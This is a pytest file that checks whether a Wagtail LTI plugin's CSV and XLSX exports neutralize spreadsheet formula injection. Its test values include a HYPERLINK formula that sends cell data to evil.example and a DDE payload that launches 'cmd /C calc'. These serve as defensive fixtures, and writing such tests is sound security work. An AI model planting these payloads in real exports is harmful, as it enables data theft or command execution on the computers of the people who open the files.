"""CSV injection: no cell of a CSV the plugin writes starts a formula.

Text chosen by a tool (a registered tool's ``client_name``, Deep Linking titles) or by a person
(names) reaches the admin's exports: providers, resource links, results, enrollments, the launch
log, and Wagtail's Site history (the plugin's audit log). Every text cell starting with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return gets a leading apostrophe (OWASP); XLSX exports
keep the exact text as a string cell, never a formula.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.registration.test_dynamic_registration import (
    metadata,
    start_registration,
    tool_reads_configuration,
    tool_registers,
)
from tests.support.admin import url
from tests.support.factories import enroll, make_course, make_learner, make_link, make_provider
from wagtail_lti import launch_log
from wagtail_lti.admin.courses import enrollment_viewset
from wagtail_lti.models import LearnerActivity, LtiProvider, LtiResourceLink
from wagtail_lti.security.exports import FORMULA_PREFIXES, neutralize


pytestmark = pytest.mark.django_db

EVIL_NAME = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


# --- The rule -----------------------------------------------------------------------------------


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_formula_leading_text_gets_an_apostrophe(prefix):
    assert neutralize(f"{prefix}1+1") == f"'{prefix}1+1"


@pytest.mark.parametrize("value", ["Quiz", "", "a=b", "'=x", " =x", -3, 0.5, None])
def test_other_values_are_unchanged(value):
    assert neutralize(value) == value


# --- The doors ----------------------------------------------------------------------------------


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_PREFIXES), (cell, row)


def xlsx_cells(response) -> list:
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = load_workbook(io.BytesIO(body)).active
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.fixture
def editor_client(client, orgs, make_editor):
    client.force_login(make_editor("reggie", orgs["acme"]))
    return client


@pytest.fixture
def registered(editor_client, orgs, settings):
    """A tool registers itself (Dynamic Registration) with a formula as its client_name."""
    settings.ALLOWED_HOSTS = ["testserver", "tool.example"]
    opened = start_registration(editor_client, orgs["acme"])
    config = tool_reads_configuration(opened["openid_configuration"])
    response = tool_registers(config, opened["registration_token"], metadata(client_name=EVIL_NAME))
    assert response.status_code == 200, response.text
    provider = LtiProvider.objects.get()
    assert provider.name == EVIL_NAME
    return provider


def test_a_registered_tools_name_is_no_formula_in_the_provider_export(editor_client, registered):
    rows = csv_rows(editor_client.get(url(LtiProvider, "list", query="export=csv")))
    assert rows[1][0] == "'" + EVIL_NAME
    assert_no_formula(rows)
    cells = xlsx_cells(editor_client.get(url(LtiProvider, "list", query="export=xlsx")))
    (cell,) = [cell for cell in cells if cell.value == EVIL_NAME]
    assert cell.data_type == "s"  # text, not a formula


def test_a_registered_tools_name_is_no_formula_in_the_site_history_export(
    editor_client, registered
):
    from django.contrib.auth import get_user_model
    from wagtail.log_actions import log

    # As the admin records the editor's review (the label is the provider's name then).
    log(registered, "wagtail.edit", user=get_user_model().objects.get(username="reggie"))
    site_history = reverse("wagtailadmin_reports:site_history")
    rows = csv_rows(editor_client.get(site_history, {"export": "csv"}))
    assert any(cell == "'" + EVIL_NAME for row in rows for cell in row), rows
    assert_no_formula(rows)


def test_results_and_enrollments_exports_hold_no_formula(client, orgs, make_editor):
    provider = make_provider(orgs["acme"])
    # The title a tool chose in a Deep Linking answer becomes the resource link's name.
    link = make_link(provider, name="@SUM(1+1)*cmd|' /C calc'!A0", requires_score=True)
    course = make_course(orgs["acme"], [link], title="-2+3 course")
    learner = make_learner("lee", first_name="=1+2", last_name="Learner", email="+1@example.com")
    enroll(learner, course)
    LearnerActivity.objects.create(
        placement=course.lti_placements.get(), user=learner, status="completed", score=0.5
    )
    client.force_login(make_editor("alice", orgs["acme"]))

    rows = csv_rows(client.get(reverse("wagtail_lti_results_report"), {"export": "csv"}))
    text = "\n".join(",".join(row) for row in rows)
    assert "'@SUM(1+1)" in text and "'-2+3 course" in text and "'+1@example.com" in text
    assert "50" in text  # numbers are written as they are
    assert_no_formula(rows)

    enrollments = reverse(enrollment_viewset.get_url_name("index"))
    rows = csv_rows(client.get(enrollments, {"export": "csv"}))
    assert any(cell == "'+1@example.com" for row in rows for cell in row)
    assert_no_formula(rows)

    rows = csv_rows(client.get(url(LtiResourceLink, "list", query="export=csv")))
    assert rows[1][0] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert_no_formula(rows)


def test_the_launch_log_export_holds_no_formula(client, orgs, make_editor):
    provider = make_provider(orgs["acme"], name="-cmd provider")
    launch_log.record("token", ok=False, provider=provider, error="=1+1 is not a client assertion")
    client.force_login(make_editor("alice", orgs["acme"]))
    rows = csv_rows(client.get(reverse("wagtail_lti_launch_log"), {"export": "csv"}))
    text = "\n".join(",".join(row) for row in rows)
    assert "'-cmd provider" in text and "'=1+1 is not a client assertion" in text
    assert_no_formula(rows)
